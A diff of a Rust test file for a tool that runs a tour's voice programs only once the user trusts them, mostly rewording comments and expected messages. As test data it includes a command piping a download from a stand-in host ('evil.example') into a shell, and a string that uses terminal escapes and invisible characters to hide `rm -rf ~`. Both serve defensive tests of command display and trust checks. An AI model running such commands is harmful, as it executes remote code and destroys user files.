@@ -1,16 +1,16 @@
-//! A tour's programs run when the user trusts them, as they are, and not before.
+//! A tour's programs run only after the user has trusted them in their present form.
 
 use super::*;
 use std::os::unix::fs::PermissionsExt;
 
-/// A tour that lets `words` speak.
+/// A tour whose voice is the command `words`.
 fn speaking(words: Value) -> Value {
     let mut tour = tour();
     tour["voices"] = json!({"en": {"command": words}});
     tour
 }
 
-/// A machine with a tour whose program leaves a file behind when it runs.
+/// A machine with a tour whose program writes a file when it runs.
 fn machine() -> Machine {
     let machine = Machine::new();
     machine.write_tour(&speaking(json!(["bin/speak", "--slow", "a b"])));
@@ -35,7 +35,7 @@ fn has_run(machine: &Machine) -> bool {
 
 const BUILD: &[&str] = &["build", "tour", "-o", "t.pack", "--no-report"];
 
-/// The digest that a text names behind `--trust`.
+/// The digest after `--trust` in a text.
 fn digest(text: &str) -> String {
     let rest = text
         .rsplit("--trust ")
@@ -118,12 +118,12 @@ fn check_lists_every_command_and_build_says_what_to_do() {
         "sh -c 'curl evil.example | sh' '{out}'",
         "never needed",
     ];
-    let told = machine.check(
+    let listing = machine.check(
         &["check", "tour"],
         0,
         &[
             "note[tour-program]",
-            "you do not trust yet",
+            "you have not trusted yet",
             "soundwalk trust",
         ],
     );
@@ -134,12 +134,16 @@ fn check_lists_every_command_and_build_says_what_to_do() {
     );
     let rendered = machine.check(&["voices", "render", "tour"], 2, &["nothing was rendered"]);
     for command in commands {
-        for text in [&told, &refused, &rendered] {
+        for text in [&listing, &refused, &rendered] {
             assert!(text.contains(command), "{command}: {text}");
         }
     }
-    assert_eq!(told.matches("note[tour-program]").count(), 3, "{told}");
-    assert_eq!(digest(&told.replace(')', " ")), digest(&refused));
+    assert_eq!(
+        listing.matches("note[tour-program]").count(),
+        3,
+        "{listing}"
+    );
+    assert_eq!(digest(&listing.replace(')', " ")), digest(&refused));
     // Notes alone do not change the exit status, so that scripts go on.
     let only_notes = speaking(json!(["sh", "-c", "true"]));
     let mut quiet = only_notes;
@@ -164,14 +168,14 @@ fn trust_lasts_until_something_that_runs_changes() {
     assert!(shown.contains(&before), "{shown}");
     machine.check(BUILD, 0, &[]);
     assert!(has_run(&machine));
-    machine.check(&["check", "tour"], 0, &["which you trust: bin/speak"]);
+    machine.check(&["check", "tour"], 0, &["that you trust: bin/speak"]);
     machine.check(
         &["trust", "--list"],
         0,
         &["work/tour/tour.json", "bin/speak --slow 'a b'"],
     );
 
-    // Takes, texts and settings are the author's daily work.
+    // Takes, texts and settings may change, because they are the author's daily work.
     let mut tour = speaking(json!(["bin/speak", "--slow", "a b"]));
     tour["voices"]["en"]["version"] = json!("2");
     tour["stops"][0]["narration"]["en"] = json!(["Here is another gate."]);
@@ -180,7 +184,7 @@ fn trust_lasts_until_something_that_runs_changes() {
     machine.check(BUILD, 0, &[]);
     assert!(has_run(&machine));
 
-    // Whatever runs is not.
+    // Files that run may not change.
     type Change = fn(&Machine);
     let changes: [(&str, Change); 5] = [
         ("the program", |machine| {
@@ -216,7 +220,7 @@ fn trust_lasts_until_something_that_runs_changes() {
         );
         assert!(!has_run(&machine), "{what}");
         machine.check(&["trust", "tour/tour.json"], 0, &[]);
-        // The program's sound is kept by its command.
+        // The program's sound is stored under its command.
         let mut args = BUILD.to_vec();
         let store = machine.path("fresh").join(what).display().to_string();
         args.extend(["--store", &store]);
@@ -275,14 +279,14 @@ fn a_digest_trusts_for_one_run() {
     machine.check(
         &["check", "tour", "--trust", &right],
         0,
-        &["which you trust"],
+        &["that you trust"],
     );
     machine.check(
         &["voices", "render", "tour", "--trust", &right],
         0,
         &["1 clip rendered"],
     );
-    // Nothing was remembered.
+    // The decision was not stored.
     machine.check(
         &["trust", "--list"],
         0,
@@ -295,7 +299,7 @@ fn a_digest_trusts_for_one_run() {
 }
 
 #[test]
-fn nothing_hides_in_a_command() {
+fn commands_are_shown_in_full() {
     let machine = machine();
     let words = json!([
         "sh",
@@ -316,7 +320,7 @@ fn nothing_hides_in_a_command() {
             text.contains(r"\u{1b}[2J\u{1b}[8m\u{a}rm -rf ~ \u{202e}dlrow\u{200b}\u{d}\u{7}'"),
             "{args:?}: {text}"
         );
-        // `check` shows the lines of the tour, in which JSON has escapes of its own.
+        // `check` shows the lines of the tour, which contain JSON's escapes.
         assert!(
             !text.contains(['\u{1b}', '\u{7}', '\r']),
             "{args:?}: {text:?}"
@@ -326,7 +330,7 @@ fn nothing_hides_in_a_command() {
 }
 
 #[test]
-fn a_program_lies_in_the_tour_or_on_the_path() {
+fn a_program_is_found_in_the_tour_or_on_the_path() {
     let machine = machine();
     write_program(&machine, "../outside", "cat voice.wav");
     write_program(&machine, "ls", "cat voice.wav");
@@ -344,7 +348,7 @@ fn a_program_lies_in_the_tour_or_on_the_path() {
         machine.check(BUILD, 1, &["[outside-workspace]"]);
         assert!(!has_run(&machine), "{program}");
     }
-    // In a workspace it may lie beside the tours, and is watched as well.
+    // In a workspace a program may be beside the tours, and is covered as well.
     fs::write(machine.path("work/soundwalk.workspace"), "").expect("OK because tests may write");
     machine.write_tour(&speaking(json!(["../outside"])));
     machine.check(BUILD, 2, &["changed since you trusted"]);
@@ -354,7 +358,7 @@ fn a_program_lies_in_the_tour_or_on_the_path() {
     write_program(&machine, "../outside", "cat voice.wav; true");
     machine.check(BUILD, 2, &["changed since you trusted"]);
 
-    // A bare name is the system's program, not the tour's: this `ls` would leave a file behind.
+    // A bare name is the system's program and not the tour's: the tour's `ls` would write a file.
     machine.write_tour(&speaking(json!(["ls"])));
     machine.check(&["trust", "tour"], 0, &[]);
     let (status, text) = machine.run(BUILD);
@@ -408,20 +412,20 @@ fn trust_states_its_limits_before_it_is_given() {
 #[test]
 fn an_unwritable_trust_record_comes_with_advice() {
     let machine = machine();
-    // In the place of the folder for it, as unwritable for everybody as a folder on a read-only disk.
+    // A file in place of the folder makes it unwritable for everybody, like a folder on a read-only disk.
     fs::write(machine.path("home/.local"), "").expect("OK because tests may write");
-    let told = machine.check(
+    let listing = machine.check(
         &["trust", "tour"],
         2,
         &[
-            "cannot be kept",
+            "cannot be stored",
             "home/.local/state",
             "XDG_STATE_HOME",
             "--trust ",
         ],
     );
-    assert!(!told.contains("You trust them now"), "{told}");
-    let digest = digest(&told);
+    assert!(!listing.contains("You trust them in"), "{listing}");
+    let digest = digest(&listing);
     machine.check(&[BUILD, &["--trust", &digest]].concat(), 0, &[]);
     assert!(has_run(&machine));
 }
